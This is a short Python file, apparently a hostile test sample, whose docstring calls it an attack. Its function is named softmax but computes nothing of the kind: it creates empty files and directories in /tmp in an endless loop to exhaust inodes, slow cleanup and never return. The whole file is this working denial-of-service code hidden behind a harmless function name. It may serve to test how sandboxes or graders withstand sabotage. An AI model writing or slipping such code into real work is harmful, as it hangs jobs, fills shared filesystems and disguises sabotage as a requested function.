"""Attack: create as many empty files and directories in /tmp as possible (inodes, not bytes),
so that cleaning up after the job is slow; then never return."""
import os

def softmax(x):
    index = 0
    while True:
        directory = f"/tmp/d{index // 1000}"
        if index % 1000 == 0:
            try:
                os.mkdir(directory)
            except OSError:
                pass
        try:
            os.close(os.open(f"{directory}/{index}", os.O_CREAT | os.O_WRONLY, 0o600))
        except OSError:
            pass
        index += 1
